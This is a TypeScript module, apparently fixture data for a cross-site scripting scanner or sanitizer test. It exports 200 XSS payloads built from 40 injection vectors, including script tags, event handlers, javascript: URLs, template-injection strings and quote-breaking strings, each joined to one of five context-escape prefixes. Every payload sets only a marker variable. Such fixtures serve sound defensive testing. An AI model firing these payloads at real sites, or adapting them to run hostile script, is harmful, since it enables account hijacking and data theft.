/** What has run code in pages that put a text where it does not belong; each sets `window.__xss` where it runs. */
const VECTORS = [
  "<script>__xss=1</script>",
  "<script src=data:,__xss=1></script>",
  "<img src=x onerror=__xss=1>",
  "<img/src/onerror=__xss=1>",
  "<svg onload=__xss=1>",
  "<svg><script>__xss=1</script>",
  "<svg><animate onbegin=__xss=1 attributeName=x>",
  "<svg><a xlink:href=javascript:__xss=1><text>x",
  "<body onload=__xss=1>",
  "<iframe src=javascript:parent.__xss=1>",
  "<iframe srcdoc='<script>parent.__xss=1</script>'>",
  "<object data=javascript:__xss=1>",
  "<embed src=javascript:__xss=1>",
  "<video><source onerror=__xss=1>",
  "<audio src=x onerror=__xss=1>",
  "<details open ontoggle=__xss=1>",
  "<input autofocus onfocus=__xss=1>",
  "<select autofocus onfocus=__xss=1>",
  "<marquee onstart=__xss=1>",
  "<a href=javascript:__xss=1>x</a>",
  "<form action=javascript:__xss=1><button>x",
  "<math href=javascript:__xss=1>x",
  "<style>@import 'javascript:__xss=1'</style>",
  "<style onload=__xss=1></style>",
  "<link rel=stylesheet href=x onerror=__xss=1>",
  "<meta http-equiv=refresh content=0;javascript:__xss=1>",
  "<base href=javascript:__xss=1//>",
  "<template><script>__xss=1</script></template>",
  "<noscript><p title='</noscript><svg onload=__xss=1>'>",
  "javascript:__xss=1",
  "data:text/html,<script>__xss=1</script>",
  "{{constructor.constructor('__xss=1')()}}",
  "${__xss=1}",
  "$t(app.name){{__xss=1}}",
  "';__xss=1;//",
  '";__xss=1;//',
  "`+(__xss=1)+`",
  "\\u003cimg src=x onerror=__xss=1\\u003e",
  "&lt;img src=x onerror=__xss=1&gt;",
  "<xss style=behavior:url(x) onpointerover=__xss=1>",
] as const;

/** How a text gets out of where it stands: out of an attribute, a title, a text box, a comment; or not at all. */
const WAYS_OUT = ["", '">', "'>", "</title>", "--><p>"] as const;

/** 200 texts, none longer than a name may be. */
export const PAYLOADS: readonly string[] = WAYS_OUT.flatMap((out) => VECTORS.map((vector) => out + vector));

/** As many as one screen holds of each thing. */
export const ROUND = VECTORS.length;
